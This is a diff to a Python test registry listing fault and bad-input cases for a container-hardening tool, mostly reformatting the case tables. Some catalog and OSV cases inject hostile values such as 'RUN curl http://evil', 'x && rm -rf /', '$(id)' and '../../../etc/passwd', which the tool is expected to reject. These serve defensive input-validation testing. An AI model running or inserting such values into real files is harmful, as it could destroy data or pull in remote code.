@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - case tables: a malformed document reads best on one line
 """The registry of what the reliability suite tries: fault and bad-input classes, and every case.
 
 Each parametrized test draws its cases from here with ``params(class)``, so a case cannot exist
@@ -60,8 +61,7 @@ CLASSES: tuple[FaultClass, ...] = (
     ),
     FaultClass(
         "disk-full",
-        "the output directory on a 64 KiB tmpfs: `run`, `scan --out`, `sarif -o`, `diff --json`, "
-        "`db build`",
+        "the output directory on a 64 KiB tmpfs: `run`, `scan --out`, `sarif -o`, `diff --json`, `db build`",
         "exit 3, says to check free space; no file left half-written; no tag moved",
     ),
     FaultClass(
@@ -126,14 +126,14 @@ CLASSES: tuple[FaultClass, ...] = (
         "image-tar",
         "image tarballs with `../` and absolute member names, symlink loops, a member that "
         "declares 8 GiB, a truncated layer, a missing manifest",
-        "an anomaly finding that fails the gate, or InspectError (exit 3) naming the layer; "
+        "an anomaly finding that fails the gate, or InspectError (exit 3) naming the archive; "
         "nothing is written to disk",
     ),
     FaultClass(
         "parser-property",
         "hypothesis: random catalogs, policies, suppressions, Trivy reports, OSV records, JSON "
         "reports, history lines, Dockerfiles (the SARIF writer's property lives in tests/unit/test_sarif.py)",
-        "only the parser's own error type (exit 2 family), never a crash; SARIF stays valid",
+        "only the parser's own error type (exit 2 family), never a crash",
     ),
     FaultClass(
         "self-security",
@@ -148,8 +148,10 @@ CLASS_NAMES = frozenset(c.name for c in CLASSES)
 # --- infrastructure faults ------------------------------------------------------------------------
 
 ENGINE_DOWN: tuple[Case, ...] = (
-    *(Case("engine-down", f"missing-socket-{command}", {"command": command}) for command in (
-        "run", "build", "scan", "check", "release")),
+    *(
+        Case("engine-down", f"missing-socket-{command}", {"command": command})
+        for command in ("run", "build", "scan", "check", "release")
+    ),
     Case("engine-down", "dies-mid-build"),
 )
 
@@ -208,13 +210,16 @@ TRIVY_BEHAVIOURS: Mapping[str, tuple[str, ...]] = {
 }
 
 TRIVY_FAULT: tuple[Case, ...] = tuple(
-    Case("trivy-fault", f"{command}-{behaviour}", {"command": command, "behaviour": behaviour, "words": words})
+    Case(
+        "trivy-fault", f"{command}-{behaviour}", {"command": command, "behaviour": behaviour, "words": words}
+    )
     for command in ("run", "scan")
     for behaviour, words in TRIVY_BEHAVIOURS.items()
 )
 
 DISK_FULL: tuple[Case, ...] = tuple(
-    Case("disk-full", command, {"command": command}) for command in ("run", "scan", "sarif", "diff", "db-build")
+    Case("disk-full", command, {"command": command})
+    for command in ("run", "scan", "sarif", "diff", "db-build")
 )
 
 REGISTRY_FAULT: tuple[Case, ...] = (
@@ -243,46 +248,274 @@ def _edit(klass: str, ident: str, path: str, old: str, new: str, *words: str) ->
 
 
 CATALOG_CASES: tuple[Case, ...] = (
-    _edit("catalog", "unterminated-string", CATALOG, 'name = "demo"', 'name = "demo', "hardening.toml:11", "TOML"),
-    _edit("catalog", "duplicate-key", CATALOG, 'name = "demo"', 'name = "demo"\nname = "two"', "hardening.toml:12"),
-    _edit("catalog", "unknown-key", CATALOG, 'name = "demo"', 'name = "demo"\ncolour = "red"', "hardening.toml:12", "colour"),
-    _edit("catalog", "unknown-project-key", CATALOG, 'output_dir = "scans"', 'outptu_dir = "scans"', "hardening.toml:2", "outptu_dir"),
+    _edit(
+        "catalog",
+        "unterminated-string",
+        CATALOG,
+        'name = "demo"',
+        'name = "demo',
+        "hardening.toml:11",
+        "TOML",
+    ),
+    _edit(
+        "catalog",
+        "duplicate-key",
+        CATALOG,
+        'name = "demo"',
+        'name = "demo"\nname = "two"',
+        "hardening.toml:12",
+    ),
+    _edit(
+        "catalog",
+        "unknown-key",
+        CATALOG,
+        'name = "demo"',
+        'name = "demo"\ncolour = "red"',
+        "hardening.toml:12",
+        "colour",
+    ),
+    _edit(
+        "catalog",
+        "unknown-project-key",
+        CATALOG,
+        'output_dir = "scans"',
+        'outptu_dir = "scans"',
+        "hardening.toml:2",
+        "outptu_dir",
+    ),
     _edit("catalog", "tags-not-a-list", CATALOG, 'tags = ["1"]', 'tags = "1"', "hardening.toml:14", "tags"),
     _edit("catalog", "no-tags", CATALOG, 'tags = ["1"]', "tags = []", "hardening.toml:14", "tags"),
-    _edit("catalog", "bad-image-name", CATALOG, 'name = "demo"', 'name = "Demo Image"', "hardening.toml:11", "name"),
-    _edit("catalog", "bad-repository", CATALOG, 'repository = "hardening-reliability/bad-input"', 'repository = "UPPER/Case Repo"', "hardening.toml:13", "repository"),
-    _edit("catalog", "missing-template", CATALOG, 'template = "dockerfiles/demo/Dockerfile.j2"', 'template = "dockerfiles/nope/Dockerfile.j2"', "hardening.toml:12", "template", "does not exist"),
-    _edit("catalog", "template-outside-repository", CATALOG, 'template = "dockerfiles/demo/Dockerfile.j2"', 'template = "../../../etc/passwd"', "hardening.toml:12", "template"),
-    _edit("catalog", "newline-in-variable", CATALOG, 'greeting = "fault"', 'greeting = "x\\nRUN curl http://evil"', "hardening.toml:18", "greeting"),
-    _edit("catalog", "shell-in-variable", CATALOG, 'greeting = "fault"', 'greeting = "x && rm -rf /"', "hardening.toml:18", "greeting"),
-    _edit("catalog", "substitution-in-variable", CATALOG, 'greeting = "fault"', 'greeting = "$(id)"', "hardening.toml:18", "greeting"),
-    _edit("catalog", "continuation-in-variable", CATALOG, 'greeting = "fault"', 'greeting = "x\\\\"', "hardening.toml:18", "greeting"),
-    _edit("catalog", "variable-of-wrong-type", CATALOG, 'greeting = "fault"', "greeting = {nested = 1}", "hardening.toml:18", "greeting"),
-    _edit("catalog", "unknown-base", CATALOG, 'name = "demo"', 'name = "demo"\nbase = "trixie"', "hardening.toml:12", "base", "trixie"),
-    _edit("catalog", "missing-policy-file", CATALOG, '"policies/policy.yaml"', '"policies/nowhere.yaml"', "hardening.toml:15", "policies", "nowhere.yaml"),
-    _edit("catalog", "duplicate-image", CATALOG, "[image.variables]", '[[image]]\nname = "demo"\ntemplate = "dockerfiles/demo/Dockerfile.j2"\nrepository = "hardening-reliability/bad-input"\ntags = ["2"]\n\n[image.variables]', "hardening.toml", "demo"),
-    _edit("catalog", "not-utf8", CATALOG, 'output_dir = "scans"', 'output_dir = "sc\udcffans"', "hardening.toml"),
+    _edit(
+        "catalog",
+        "bad-image-name",
+        CATALOG,
+        'name = "demo"',
+        'name = "Demo Image"',
+        "hardening.toml:11",
+        "name",
+    ),
+    _edit(
+        "catalog",
+        "bad-repository",
+        CATALOG,
+        'repository = "hardening-reliability/bad-input"',
+        'repository = "UPPER/Case Repo"',
+        "hardening.toml:13",
+        "repository",
+    ),
+    _edit(
+        "catalog",
+        "missing-template",
+        CATALOG,
+        'template = "dockerfiles/demo/Dockerfile.j2"',
+        'template = "dockerfiles/nope/Dockerfile.j2"',
+        "hardening.toml:12",
+        "template",
+        "does not exist",
+    ),
+    _edit(
+        "catalog",
+        "template-outside-repository",
+        CATALOG,
+        'template = "dockerfiles/demo/Dockerfile.j2"',
+        'template = "../../../etc/passwd"',
+        "hardening.toml:12",
+        "template",
+    ),
+    _edit(
+        "catalog",
+        "newline-in-variable",
+        CATALOG,
+        'greeting = "fault"',
+        'greeting = "x\\nRUN curl http://evil"',
+        "hardening.toml:18",
+        "greeting",
+    ),
+    _edit(
+        "catalog",
+        "shell-in-variable",
+        CATALOG,
+        'greeting = "fault"',
+        'greeting = "x && rm -rf /"',
+        "hardening.toml:18",
+        "greeting",
+    ),
+    _edit(
+        "catalog",
+        "substitution-in-variable",
+        CATALOG,
+        'greeting = "fault"',
+        'greeting = "$(id)"',
+        "hardening.toml:18",
+        "greeting",
+    ),
+    _edit(
+        "catalog",
+        "continuation-in-variable",
+        CATALOG,
+        'greeting = "fault"',
+        'greeting = "x\\\\"',
+        "hardening.toml:18",
+        "greeting",
+    ),
+    _edit(
+        "catalog",
+        "variable-of-wrong-type",
+        CATALOG,
+        'greeting = "fault"',
+        "greeting = {nested = 1}",
+        "hardening.toml:18",
+        "greeting",
+    ),
+    _edit(
+        "catalog",
+        "unknown-base",
+        CATALOG,
+        'name = "demo"',
+        'name = "demo"\nbase = "trixie"',
+        "hardening.toml:12",
+        "base",
+        "trixie",
+    ),
+    _edit(
+        "catalog",
+        "missing-policy-file",
+        CATALOG,
+        '"policies/policy.yaml"',
+        '"policies/nowhere.yaml"',
+        "hardening.toml:15",
+        "policies",
+        "nowhere.yaml",
+    ),
+    _edit(
+        "catalog",
+        "duplicate-image",
+        CATALOG,
+        "[image.variables]",
+        '[[image]]\nname = "demo"\ntemplate = "dockerfiles/demo/Dockerfile.j2"\nrepository = "hardening-reliability/bad-input"\ntags = ["2"]\n\n[image.variables]',
+        "hardening.toml",
+        "demo",
+    ),
+    _edit(
+        "catalog", "not-utf8", CATALOG, 'output_dir = "scans"', 'output_dir = "sc\udcffans"', "hardening.toml"
+    ),
 )
 
 TEMPLATE_CASES: tuple[Case, ...] = (
-    _edit("template", "undefined-variable", TEMPLATE_FILE, "{{ greeting }}", "{{ greting }}", "Dockerfile.j2:2", "greting"),
-    _edit("template", "syntax-error", TEMPLATE_FILE, "USER 10001:10001", "{% if %}\nUSER 10001:10001", "Dockerfile.j2:3"),
-    _edit("template", "unclosed-block", TEMPLATE_FILE, "USER 10001:10001", "{% for x in y %}\nUSER 10001:10001", "Dockerfile.j2"),
-    _edit("template", "drifted-rendering", "dockerfiles/demo/Dockerfile", "USER 10001:10001", "USER root", "Dockerfile", "differs", "harden render"),
+    _edit(
+        "template",
+        "undefined-variable",
+        TEMPLATE_FILE,
+        "{{ greeting }}",
+        "{{ greting }}",
+        "Dockerfile.j2:2",
+        "greting",
+    ),
+    _edit(
+        "template",
+        "syntax-error",
+        TEMPLATE_FILE,
+        "USER 10001:10001",
+        "{% if %}\nUSER 10001:10001",
+        "Dockerfile.j2:3",
+    ),
+    _edit(
+        "template",
+        "unclosed-block",
+        TEMPLATE_FILE,
+        "USER 10001:10001",
+        "{% for x in y %}\nUSER 10001:10001",
+        "Dockerfile.j2",
+    ),
+    _edit(
+        "template",
+        "drifted-rendering",
+        "dockerfiles/demo/Dockerfile",
+        "USER 10001:10001",
+        "USER root",
+        "Dockerfile",
+        "differs",
+        "harden render",
+    ),
 )
 
 POLICY_CASES: tuple[Case, ...] = (
-    _edit("policy", "malformed-yaml", POLICY_FILE, "fail_level: high", "fail_level: [high", "policy.yaml:3", "YAML"),
-    _edit("policy", "unknown-check", POLICY_FILE, "  non_root: {severity: high}", "  non_root: {severity: high}\n  frobnicate: {severity: high}", "policy.yaml:5", "frobnicate"),
-    _edit("policy", "unknown-key", POLICY_FILE, "fail_level: high", "fail_level: high\nfail_fast: true", "policy.yaml:3", "fail_fast"),
-    _edit("policy", "bad-severity", POLICY_FILE, "non_root: {severity: high}", "non_root: {severity: urgent}", "policy.yaml:4", "severity"),
-    _edit("policy", "bad-fail-level", POLICY_FILE, "fail_level: high", "fail_level: 3", "policy.yaml:2", "fail_level"),
-    _edit("policy", "duplicate-key", POLICY_FILE, "  non_root: {severity: high}", "  non_root: {severity: high}\n  non_root: {severity: low}", "policy.yaml:5", "non_root"),
+    _edit(
+        "policy",
+        "malformed-yaml",
+        POLICY_FILE,
+        "fail_level: high",
+        "fail_level: [high",
+        "policy.yaml:3",
+        "YAML",
+    ),
+    _edit(
+        "policy",
+        "unknown-check",
+        POLICY_FILE,
+        "  non_root: {severity: high}",
+        "  non_root: {severity: high}\n  frobnicate: {severity: high}",
+        "policy.yaml:5",
+        "frobnicate",
+    ),
+    _edit(
+        "policy",
+        "unknown-key",
+        POLICY_FILE,
+        "fail_level: high",
+        "fail_level: high\nfail_fast: true",
+        "policy.yaml:3",
+        "fail_fast",
+    ),
+    _edit(
+        "policy",
+        "bad-severity",
+        POLICY_FILE,
+        "non_root: {severity: high}",
+        "non_root: {severity: urgent}",
+        "policy.yaml:4",
+        "severity",
+    ),
+    _edit(
+        "policy",
+        "bad-fail-level",
+        POLICY_FILE,
+        "fail_level: high",
+        "fail_level: 3",
+        "policy.yaml:2",
+        "fail_level",
+    ),
+    _edit(
+        "policy",
+        "duplicate-key",
+        POLICY_FILE,
+        "  non_root: {severity: high}",
+        "  non_root: {severity: high}\n  non_root: {severity: low}",
+        "policy.yaml:5",
+        "non_root",
+    ),
     _edit("policy", "future-version", POLICY_FILE, "version: 1", "version: 2", "policy.yaml:1", "version"),
-    _edit("policy", "floor-not-pep440", POLICY_FILE, "  non_root: {severity: high}", "  non_root: {severity: high}\n  package_floors:\n    floors:\n      - {package: pip, minimum: banana}", "policy.yaml:7", "minimum", "banana"),
+    _edit(
+        "policy",
+        "floor-not-pep440",
+        POLICY_FILE,
+        "  non_root: {severity: high}",
+        "  non_root: {severity: high}\n  package_floors:\n    floors:\n      - {package: pip, minimum: banana}",
+        "policy.yaml:7",
+        "minimum",
+        "banana",
+    ),
     _edit("policy", "not-a-mapping", POLICY_FILE, "version: 1\n", "- version: 1\n", "policy.yaml"),
     _edit("policy", "empty-file", POLICY_FILE, "", "", "policy.yaml"),
-    _edit("policy", "impossible-date", POLICY_FILE, "fail_level: high", "fail_level: high\ndescription: 2027-13-45", "policy.yaml:3", "month"),
+    _edit(
+        "policy",
+        "impossible-date",
+        POLICY_FILE,
+        "fail_level: high",
+        "fail_level: high\ndescription: 2027-13-45",
+        "policy.yaml:3",
+        "month",
+    ),
 )
 
 _SUPPRESSIONS = """\
@@ -294,33 +527,132 @@ suppressions:
 """
 
 SUPPRESSION_CASES: tuple[Case, ...] = (
-    _edit("suppressions", "missing-reason", SUPPRESSIONS_FILE, "    reason: the vulnerable code path is not in this image\n", "", "suppressions.yaml:3", "reason"),
-    _edit("suppressions", "short-reason", SUPPRESSIONS_FILE, "the vulnerable code path is not in this image", "ok", "suppressions.yaml:4", "reason"),
-    _edit("suppressions", "impossible-date", SUPPRESSIONS_FILE, "2027-01-31", "2027-13-45", "suppressions.yaml:5", "month"),
-    _edit("suppressions", "unknown-key", SUPPRESSIONS_FILE, "    expires: 2027-01-31", "    expires: 2027-01-31\n    owner: nobody", "suppressions.yaml:6", "owner"),
-    _edit("suppressions", "empty-id", SUPPRESSIONS_FILE, "id: CVE-2024-0001", 'id: ""', "suppressions.yaml:3", "id"),
-    _edit("suppressions", "not-utf8", SUPPRESSIONS_FILE, "version: 1", "version: 1 # \udcff", "suppressions.yaml", "utf-8"),
-    _edit("suppressions", "file-missing", GATE_FILE, "suppressions.yaml", "nowhere.yaml", "gate.yaml:6", "suppressions[0]", "nowhere.yaml"),
+    _edit(
+        "suppressions",
+        "missing-reason",
+        SUPPRESSIONS_FILE,
+        "    reason: the vulnerable code path is not in this image\n",
+        "",
+        "suppressions.yaml:3",
+        "reason",
+    ),
+    _edit(
+        "suppressions",
+        "short-reason",
+        SUPPRESSIONS_FILE,
+        "the vulnerable code path is not in this image",
+        "ok",
+        "suppressions.yaml:4",
+        "reason",
+    ),
+    _edit(
+        "suppressions",
+        "impossible-date",
+        SUPPRESSIONS_FILE,
+        "2027-01-31",
+        "2027-13-45",
+        "suppressions.yaml:5",
+        "month",
+    ),
+    _edit(
+        "suppressions",
+        "unknown-key",
+        SUPPRESSIONS_FILE,
+        "    expires: 2027-01-31",
+        "    expires: 2027-01-31\n    owner: nobody",
+        "suppressions.yaml:6",
+        "owner",
+    ),
+    _edit(
+        "suppressions",
+        "empty-id",
+        SUPPRESSIONS_FILE,
+        "id: CVE-2024-0001",
+        'id: ""',
+        "suppressions.yaml:3",
+        "id",
+    ),
+    _edit(
+        "suppressions",
+        "not-utf8",
+        SUPPRESSIONS_FILE,
+        "version: 1",
+        "version: 1 # \udcff",
+        "suppressions.yaml",
+        "utf-8",
+    ),
+    _edit(
+        "suppressions",
+        "file-missing",
+        GATE_FILE,
+        "suppressions.yaml",
+        "nowhere.yaml",
+        "gate.yaml:6",
+        "suppressions[0]",
+        "nowhere.yaml",
+    ),
 )
 
 GATE_CASES: tuple[Case, ...] = (
-    _edit("gate", "unknown-severity", GATE_FILE, "fail_on: high", "fail_on: apocalyptic", "gate.yaml:2", "fail_on"),
-    _edit("gate", "negative-ceiling", GATE_FILE, "critical: 0", "critical: -1", "gate.yaml:3", "max.critical", "negative"),
-    _edit("gate", "unknown-key", GATE_FILE, "fail_on: high", "fail_on: high\nfail_open: true", "gate.yaml:3", "fail_open"),
+    _edit(
+        "gate",
+        "unknown-severity",
+        GATE_FILE,
+        "fail_on: high",
+        "fail_on: apocalyptic",
+        "gate.yaml:2",
+        "fail_on",
+    ),
+    _edit(
+        "gate",
+        "negative-ceiling",
+        GATE_FILE,
+        "critical: 0",
+        "critical: -1",
+        "gate.yaml:3",
+        "max.critical",
+        "negative",
+    ),
+    _edit(
+        "gate",
+        "unknown-key",
+        GATE_FILE,
+        "fail_on: high",
+        "fail_on: high\nfail_open: true",
+        "gate.yaml:3",
+        "fail_open",
+    ),
     _edit("gate", "future-version", GATE_FILE, "version: 1", "version: 2", "gate.yaml:1", "version"),
     _edit("gate", "malformed-yaml", GATE_FILE, "max:", "max: {", "gate.yaml"),
-    _edit("gate", "ceiling-not-a-number", GATE_FILE, "critical: 0", "critical: none", "gate.yaml:4", "critical"),
+    _edit(
+        "gate", "ceiling-not-a-number", GATE_FILE, "critical: 0", "critical: none", "gate.yaml:4", "critical"
+    ),
     _edit("gate", "baseline-not-json", "scans/baselines/demo.json", "", "{not json", "demo.json", "baseline"),
     _edit("gate", "not-utf8", GATE_FILE, "fail_on: high", "fail_on: h\udcffigh", "gate.yaml", "utf-8"),
-    _edit("gate", "baseline-not-utf8", "scans/baselines/demo.json", "", '{"accepted": "\udcff"}', "demo.json", "baseline"),
-    _edit("gate", "baseline-wrong-shape", "scans/baselines/demo.json", "", '{"accepted": [["a"]]}', "demo.json", "accepted"),
+    _edit(
+        "gate",
+        "baseline-not-utf8",
+        "scans/baselines/demo.json",
+        "",
+        '{"accepted": "\udcff"}',
+        "demo.json",
+        "baseline",
+    ),
+    _edit(
+        "gate",
+        "baseline-wrong-shape",
+        "scans/baselines/demo.json",
+        "",
+        '{"accepted": [["a"]]}',
+        "demo.json",
+        "accepted",
+    ),
 )
 
 # --- bad report files through the read-only commands --------------------------------------------
 
 _GOOD_VULN = (
-    '{"VulnerabilityID": "CVE-2024-1", "PkgName": "bash", "InstalledVersion": "5.2", '
-    '"Severity": "HIGH"}'
+    '{"VulnerabilityID": "CVE-2024-1", "PkgName": "bash", "InstalledVersion": "5.2", "Severity": "HIGH"}'
 )
 
 
@@ -346,9 +678,23 @@ TRIVY_JSON_CASES: tuple[Case, ...] = tuple(
         ("schema-version-string", _trivy_doc(_result("[]"), schema='"2"'), ("report.json", "SchemaVersion")),
         ("results-missing", '{"SchemaVersion": 2, "ArtifactName": "demo.tar"}', ("report.json", "Results")),
         ("results-not-a-list", _trivy_doc('{"a": 1}'), ("report.json", "Results")),
-        ("package-name-missing", _trivy_doc(_result('[{"VulnerabilityID": "CVE-1", "InstalledVersion": "1", "Severity": "HIGH"}]')), ("report.json", "PkgName")),
-        ("unknown-severity", _trivy_doc(_result(_GOOD_VULN.replace("HIGH", "APOCALYPTIC").join("[]"))), ("report.json", "APOCALYPTIC")),
-        ("cvss-not-a-number", _trivy_doc(_result(_GOOD_VULN.replace("}", ', "CVSS": {"nvd": {"V3Score": "ten"}}}').join("[]"))), ("report.json", "V3Score")),
+        (
+            "package-name-missing",
+            _trivy_doc(
+                _result('[{"VulnerabilityID": "CVE-1", "InstalledVersion": "1", "Severity": "HIGH"}]')
+            ),
+            ("report.json", "PkgName"),
+        ),
+        (
+            "unknown-severity",
+            _trivy_doc(_result(_GOOD_VULN.replace("HIGH", "APOCALYPTIC").join("[]"))),
+            ("report.json", "APOCALYPTIC"),
+        ),
+        (
+            "cvss-not-a-number",
+            _trivy_doc(_result(_GOOD_VULN.replace("}", ', "CVSS": {"nvd": {"V3Score": "ten"}}}').join("[]"))),
+            ("report.json", "V3Score"),
+        ),
         ("not-utf8", "\udcff\udcfe", ("report.json",)),
     )
 )
@@ -373,14 +719,44 @@ OSV_CASES: tuple[Case, ...] = tuple(
         ("not-an-object", _OSV, "[]", ("GHSA-aaaa-bbbb-cccc.json",)),
         ("missing-id", '"id": "GHSA-aaaa-bbbb-cccc",', "", ("GHSA-aaaa-bbbb-cccc.json", "id")),
         ("bad-id", "GHSA-aaaa-bbbb-cccc", "../../etc/passwd", ("GHSA-aaaa-bbbb-cccc.json", "id")),
-        ("naive-modified", "2026-01-01T00:00:00Z", "2026-01-01T00:00:00", ("GHSA-aaaa-bbbb-cccc.json", "modified")),
+        (
+            "naive-modified",
+            "2026-01-01T00:00:00Z",
+            "2026-01-01T00:00:00",
+            ("GHSA-aaaa-bbbb-cccc.json", "modified"),
+        ),
         ("no-affected", '"affected": [', '"affected": [], "x": [', ("GHSA-aaaa-bbbb-cccc.json", "affected")),
-        ("two-key-event", '{"introduced": "0"}', '{"introduced": "0", "fixed": "1.0"}', ("GHSA-aaaa-bbbb-cccc.json", "event")),
-        ("unknown-range-type", '"type": "ECOSYSTEM"', '"type": "CALENDAR"', ("GHSA-aaaa-bbbb-cccc.json", "type")),
-        ("not-pep440", '"fixed": "2.0"', '"fixed": "two point oh"', ("GHSA-aaaa-bbbb-cccc.json", "two point oh")),
+        (
+            "two-key-event",
+            '{"introduced": "0"}',
+            '{"introduced": "0", "fixed": "1.0"}',
+            ("GHSA-aaaa-bbbb-cccc.json", "event"),
+        ),
+        (
+            "unknown-range-type",
+            '"type": "ECOSYSTEM"',
+            '"type": "CALENDAR"',
+            ("GHSA-aaaa-bbbb-cccc.json", "type"),
+        ),
+        (
+            "not-pep440",
+            '"fixed": "2.0"',
+            '"fixed": "two point oh"',
+            ("GHSA-aaaa-bbbb-cccc.json", "two point oh"),
+        ),
         ("empty-version", '"fixed": "2.0"', '"fixed": ""', ("GHSA-aaaa-bbbb-cccc.json", "empty")),
-        ("bad-debian-version", '"PyPI", "name": "demo"},\n      "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}', '"Debian:12", "name": "demo"},\n      "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0 beta!"}', ("GHSA-aaaa-bbbb-cccc.json", "2.0 beta!")),
-        ("unknown-ecosystem", '"ecosystem": "PyPI"', '"ecosystem": "Hackage"', ("GHSA-aaaa-bbbb-cccc.json", "Hackage")),
+        (
+            "bad-debian-version",
+            '"PyPI", "name": "demo"},\n      "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}',
+            '"Debian:12", "name": "demo"},\n      "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0 beta!"}',
+            ("GHSA-aaaa-bbbb-cccc.json", "2.0 beta!"),
+        ),
+        (
+            "unknown-ecosystem",
+            '"ecosystem": "PyPI"',
+            '"ecosystem": "Hackage"',
+            ("GHSA-aaaa-bbbb-cccc.json", "Hackage"),
+        ),
     )
 )
 
@@ -401,30 +777,62 @@ RUN_JSON_CASES: tuple[Case, ...] = tuple(
 # --- image tarballs (inspector) --------------------------------------------------------------------
 
 IMAGE_TAR_CASES: tuple[Case, ...] = tuple(
-    Case("image-tar", ident) for ident in (
-        "dot-dot-name", "absolute-name", "symlink-loop", "huge-declared-size", "truncated-layer", "no-manifest"
+    Case("image-tar", ident)
+    for ident in (
+        "dot-dot-name",
+        "absolute-name",
+        "symlink-loop",
+        "huge-declared-size",
+        "truncated-layer",
+        "no-manifest",
     )
 )
 
 # --- properties and self-checks: one case per test function, named after it -------------------------
 
 PARSER_PROPERTIES: tuple[Case, ...] = tuple(
-    Case("parser-property", name) for name in (
-        "catalog-toml", "policy-yaml", "suppressions-yaml", "gate-yaml", "trivy-json", "osv-record",
-        "json-report", "history-line", "dockerfile",
+    Case("parser-property", name)
+    for name in (
+        "catalog-toml",
+        "policy-yaml",
+        "suppressions-yaml",
+        "gate-yaml",
+        "trivy-json",
+        "osv-record",
+        "json-report",
+        "history-line",
+        "dockerfile",
     )
 )
 
 SELF_SECURITY: tuple[Case, ...] = tuple(
-    Case("self-security", name) for name in (
-        "no-shell", "subprocess-list-and-timeout", "private-temp-files", "bandit",
+    Case("self-security", name)
+    for name in (
+        "no-shell",
+        "subprocess-list-and-timeout",
+        "private-temp-files",
+        "bandit",
     )
 )
 
 ALL_CASES: tuple[Case, ...] = (
-    *ENGINE_DOWN, *BUILD_FAILURE, *TRIVY_FAULT, *DISK_FULL, *REGISTRY_FAULT, *INTERRUPT,
-    *CATALOG_CASES, *TEMPLATE_CASES, *POLICY_CASES, *SUPPRESSION_CASES, *GATE_CASES,
-    *TRIVY_JSON_CASES, *OSV_CASES, *RUN_JSON_CASES, *IMAGE_TAR_CASES, *PARSER_PROPERTIES, *SELF_SECURITY,
+    *ENGINE_DOWN,
+    *BUILD_FAILURE,
+    *TRIVY_FAULT,
+    *DISK_FULL,
+    *REGISTRY_FAULT,
+    *INTERRUPT,
+    *CATALOG_CASES,
+    *TEMPLATE_CASES,
+    *POLICY_CASES,
+    *SUPPRESSION_CASES,
+    *GATE_CASES,
+    *TRIVY_JSON_CASES,
+    *OSV_CASES,
+    *RUN_JSON_CASES,
+    *IMAGE_TAR_CASES,
+    *PARSER_PROPERTIES,
+    *SELF_SECURITY,
 )
 
 
